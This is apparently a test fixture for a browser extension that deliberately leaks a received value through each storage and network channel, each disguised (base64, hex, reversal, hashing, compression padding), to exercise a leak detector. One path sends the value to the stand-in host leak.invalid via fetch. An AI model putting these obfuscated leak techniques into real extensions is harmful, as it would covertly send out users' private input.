// @ts-nocheck
// untick-leaks-on-purpose: for tests alone. One way to leak for each place there is, each in another disguise.
{
  const hex = (bytes) => [...new Uint8Array(bytes)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
  const reversed = (text) => [...text].reverse().join('');
  const keep = (value) => {
    const opening = indexedDB.open('leaks', 1);
    opening.onupgradeneeded = () => opening.result.createObjectStore('leaks', { autoIncrement: true });
    opening.onsuccess = () => {
      const transaction = opening.result.transaction('leaks', 'readwrite');
      // Long enough to be compressed, by which it is no longer to be seen in the file.
      transaction.objectStore('leaks').add({ before: 'a page of words, '.repeat(200), value, after: value.repeat(40) });
      transaction.oncomplete = () => opening.result.close();
    };
  };
  const ways = {
    text: (value) => chrome.storage.local.set({ leaked: value }),
    untyped: (value) => chrome.storage.session.set({ leaked: btoa(value) }),
    search: (value) => chrome.storage.sync.set({ leaked: hex(new TextEncoder().encode(value)) }),
    tel: keep,
    email: async (value) => (await caches.open('leaks')).put('https://leak.invalid/', new Response(reversed(value))),
    code: async (value) =>
      console.log('worker leaks', hex(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(value)))),
    number: (value) =>
      fetch(`http://leak.invalid/?q=${[...value].map((one) => `%${one.charCodeAt(0).toString(16)}`).join('')}`),
    date: (value) => chrome.storage.session.set({ forPopup: value }),
    area: (value) => chrome.storage.session.set({ forConsole: value }),
    other: (value) => chrome.action.setTitle({ title: value.toUpperCase() }),
  };
  chrome.runtime.onMessage.addListener(({ leak, value }) => {
    if (leak) Promise.resolve(ways[leak]?.(value)).catch(() => {});
  });
}
